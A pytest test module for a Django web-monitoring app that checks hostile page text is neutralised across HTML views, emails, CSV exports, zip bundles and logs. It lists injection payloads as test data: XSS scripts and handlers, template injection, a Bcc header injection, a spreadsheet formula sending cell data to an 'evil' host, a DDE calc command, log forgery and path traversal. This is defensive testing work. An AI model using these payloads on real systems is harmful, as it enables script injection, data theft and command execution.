"""Text of hostile pages on its way through everything that shows it: pages, mails, tables, archives, the log."""

from __future__ import annotations

import csv
import email
import email.policy
import io
import json
import logging
import zipfile
from collections.abc import Callable
from datetime import timedelta
from html import escape
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.core import mail
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from config.logs import OneLine
from monitoring.models import Change, FieldChange, FieldRule, Monitor, OutboxMessage, Snapshot
from monitoring.services import outbox
from review.models import DigestSubscription
from review.services import digests
from review.spreadsheet import FORMULA_STARTS, safe_cell
from tests.factories import make_user
from tests.hostile import chain
from tests.monitoring.conftest import visit
from tests.monitoring.site import LocalSite
from tests.monitoring.test_pipeline import CLAUSES

pytestmark = pytest.mark.django_db

type Watch = Callable[..., Monitor]

OURS = {
    "script": "</title><script>top.PWNED=1</script>",
    "attribute": "\" onmouseover=top.PWNED=1 x='",
    "image": "<img src=x onerror=top.PWNED=1>",
    "template": "{{ settings.SECRET_KEY }}{% debug %}{{ ''.__class__ }}",
    "new-header": "Terms\r\nBcc: evil@example.com\r\n\r\nbody",
    "long": "x" * 5000,
    "encoded-word": "=?utf-8?b?" + "QQ==" * 500 + "?=",
    "formula": '=HYPERLINK("http://evil/?"&A1,"x")',
    "command": "=cmd|' /C calc'!A0",
    "full-width": "＝1+1",
    "log-line": "x\n2026-01-01 INFO admin approved change 7\x1b[2J",
    "line-separators": "\u2028\u2029</script><!--",
    "markdown": "[x](javascript:alert(1))",
    "reversed-name": "report\u202efdp.exe",
    "path": "../../../../etc/cron.d/x\x00.html",
    "surrogate": "a&#xD800;b&#0;c",
}

BROKEN = {"surrogate"}  # so many replacement characters that the page is taken for broken, and says so


def page(text: str, *, clause: str = "") -> str:
    """A page whose title, heading, a field and a clause say something."""
    clauses = "".join(f"<p>{clause}</p>" for clause in CLAUSES)
    shown = text if "&#x" in text else escape(text)
    data = json.dumps({"@type": "Product", "name": text, "sku": "a\x00b\ud800c"}).replace("</", "<\\/")
    return (
        f"<!doctype html><html lang='en\" onload=\"top.PWNED=1'><head><title>{shown}</title>"
        f"<script type='application/ld+json'>{data}</script></head>"
        f"<body><main><h1>{shown}</h1><p>The last word on the yearly fee is said here: {shown} and it binds you.</p>"
        f"{clauses}{f'<p>{clause} {shown}</p>' if clause else ''}</main></body></html>"
    )


def strings() -> dict[str, str]:
    """Our own strings and, where it is here, those of the shared catalogue."""
    module = chain.load()
    shared = {
        case.name.removeprefix("sink_"): case.payload[1]
        for case in (module.cases() if module else ())
        if case.area == "sink" and not case.name.startswith("sink_api") and case.payload[1] not in OURS.values()
    }
    return OURS | shared


@pytest.fixture
def reader() -> User:
    """Somebody who sees, mails and configures everything."""
    user = make_user("ada", role="admin", is_superuser=True)
    DigestSubscription.objects.create(user=user, rhythm="daily", next_at=timezone.now() - timedelta(minutes=1))
    return user


@pytest.fixture
def client(reader: User) -> Client:
    """Their browser."""
    client = Client(HTTP_HOST="127.0.0.1")
    client.force_login(reader, backend="django.contrib.auth.backends.ModelBackend")
    return client


@pytest.fixture
def changed(reader: User, watch: Watch, site: LocalSite, caplog: pytest.LogCaptureFixture) -> dict[str, Monitor]:
    """A monitor for each string, whose page said something plain and then the string."""
    caplog.set_level(logging.INFO)
    found = {}
    for number, (name, text) in enumerate(strings().items()):
        title = " ".join(text.split()).replace("\x00", "")[:100] or "plain"  # what a person might have copied
        monitor = watch(f"/{number}", page("Nothing of note"), name=title)
        FieldRule.objects.create(
            monitor=monitor, name="name", source="jsonld", selector="name", type="text", important=True, review=False
        )
        FieldRule.objects.create(monitor=monitor, name="sku", source="jsonld", selector="sku", type="text")
        found[name] = monitor
    visit(*found.values())
    for number, text in enumerate(strings().values()):
        site.put(f"/{number}", page(text, clause="From May on we may end any account without a notice, because of"))
    visit(*found.values())
    return found


def test_every_string_ends_as_text(
    changed: dict[str, Monitor],
    client: Client,
    reader: User,
    settings: Any,
    caplog: pytest.LogCaptureFixture,
) -> None:
    assert {name for name, m in changed.items() if m.state != "ok"} <= BROKEN
    changes = {c.monitor_id: c for c in Change.objects.filter(monitor__in=changed.values())}
    assert set(changes) == {m.pk for name, m in changed.items() if name not in BROKEN}
    assert FieldChange.objects.filter(name="name").count() == len(changes)
    stored = json.dumps(list(Snapshot.objects.values_list("title", "language", "fields")))
    assert "\\u0000" not in stored
    assert "\\ud800" not in stored

    pages = [reverse(name) for name in ("today", "queue", "fields", "monitors", "verdicts", "sites")]
    pages += [f"{reverse('change', args=[c.pk])}?view={view}" for c in changes.values() for view in ("prior", "fields")]
    pages += [
        reverse(f"admin:monitoring_{kind}_changelist") for kind in ("monitor", "change", "snapshot", "fieldchange")
    ]
    for address in pages:
        answer = client.get(address)
        assert answer.status_code == 200, address
        html = answer.content.decode()
        assert "<script>top" not in html, address
        assert "<img src=x" not in html, address
        assert '" onmouseover=' not in html, address
        assert '" onload=' not in html, address
        assert settings.SECRET_KEY not in html, address

    lines = [OneLine("%(message)s").format(record) for record in caplog.get_records("setup")]
    assert lines
    assert not any("\n" in line or "\x1b" in line or "approved change 7" in line for line in lines)


def test_what_is_taken_away_is_inert(changed: dict[str, Monitor], client: Client) -> None:
    answer = client.get(reverse("fields_csv"))
    text = b"".join(answer.streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]

    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) > len(OURS) - len(BROKEN)
    assert {len(row) for row in rows} == {9}
    for row in rows:
        for cell in row:
            assert not cell.lstrip(" \u3000").startswith(FORMULA_STARTS), cell
    for change in Change.objects.filter(monitor__in=changed.values()):
        answer = client.get(reverse("evidence", args=[change.pk]))

        assert answer["Content-Type"] == "application/octet-stream"
        assert answer["Content-Disposition"] == f'attachment; filename="tideline-change-{change.pk}.zip"'
        bundle = zipfile.ZipFile(io.BytesIO(answer.content))
        assert bundle.namelist() == ["change.json", "diff.txt", "prior.bin", "new.bin", "captures.warc"]
        assert json.loads(bundle.read("change.json"))["monitor"]["name"] == change.monitor.name


@pytest.mark.parametrize(
    "text", [f"{start}1+1" for start in FORMULA_STARTS] + ["  =1", "\u3000＝1", "\ufeff=1", "\x0b=1", "\xa0=1"]
)
def test_a_cell_that_starts_like_a_formula_is_text(text: str) -> None:
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", ["12.50", "A-1", "a=b", ""])
def test_another_cell_stays_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


def test_mails_have_one_recipient_one_subject_line_and_no_lines_of_the_pages(
    changed: dict[str, Monitor], reader: User
) -> None:
    now = timezone.now()
    digests.tick(now=now)
    waiting = OutboxMessage.objects.count()
    assert set(OutboxMessage.objects.values_list("kind", flat=True)) == {"alert", "digest"}

    sent = 0
    while more := outbox.send_due(now=now):
        sent += more

    assert sent == waiting == len(mail.outbox)
    for message in mail.outbox:
        raw = message.message().as_bytes()
        parsed = email.message_from_bytes(raw, policy=email.policy.default)
        assert message.recipients() == [reader.email]
        assert parsed["To"] == reader.email
        assert parsed["Bcc"] is None
        assert len(str(parsed["Subject"])) <= 300
        assert max(map(len, raw.splitlines())) < 998
        [text] = [part.get_content() for part in parsed.walk() if part.get_content_type() == "text/plain"]
        assert not any(made in text for made in ("\nBcc:", "\n2026-01-01 INFO", "\x1b", "\x00"))
        [html] = [part.get_content() for part in parsed.walk() if part.get_content_type() == "text/html"]
        assert "<script>top" not in html
        assert "<img src=x" not in html
        assert '" onmouseover=' not in html
